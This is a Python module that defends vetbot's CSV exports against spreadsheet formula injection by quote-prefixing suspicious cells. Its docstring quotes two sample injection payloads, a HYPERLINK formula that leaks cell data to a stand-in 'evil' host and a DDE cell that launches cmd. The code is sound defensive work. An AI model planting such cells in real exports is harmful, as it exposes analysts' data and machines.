"""CSV/spreadsheet formula-injection defence for every CSV vetbot writes.

A candidate controls their profile; a cell like ``=HYPERLINK("http://evil/?"&A1)`` or
``@SUM(1+1)*cmd|' /C calc'!A0`` in an export becomes a live formula when a security analyst
opens it in Excel, LibreOffice or Google Sheets (OWASP "CSV Injection"). A leading ``'``
makes the spreadsheet treat the cell as text and is visible, so nothing is silently changed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import IO, Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralize_cell(value: Any) -> Any:
    """Prefix ``'`` to strings that a spreadsheet would read as a formula; other types pass.

    Numbers are left alone (``-5`` as an int is data, and CSV writes it as a number); a
    *string* ``"-5"`` is prefixed, because vetbot cannot know it was meant as a number.
    Leading whitespace or invisible characters are looked through, since some spreadsheet
    programs trim them before deciding.
    """
    if not isinstance(value, str) or not value:
        return value
    probe = value.lstrip(" \u00a0\u200b\u200c\u200d\ufeff\n")
    if value.startswith(FORMULA_PREFIXES) or probe.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralize_row(row: Iterable[Any]) -> list[Any]:
    return [neutralize_cell(cell) for cell in row]


def neutralize_mapping(row: Mapping[str, Any]) -> dict[str, Any]:
    """For ``csv.DictWriter``: values neutralised; header names too when written by the caller."""
    return {key: neutralize_cell(value) for key, value in row.items()}


def write_rows(stream: IO[str], header: Iterable[str], rows: Iterable[Iterable[Any]]) -> None:
    """Write a neutralised CSV (header included: column names can come from input files)."""
    writer = csv.writer(stream)
    writer.writerow(neutralize_row(header))
    for row in rows:
        writer.writerow(neutralize_row(row))
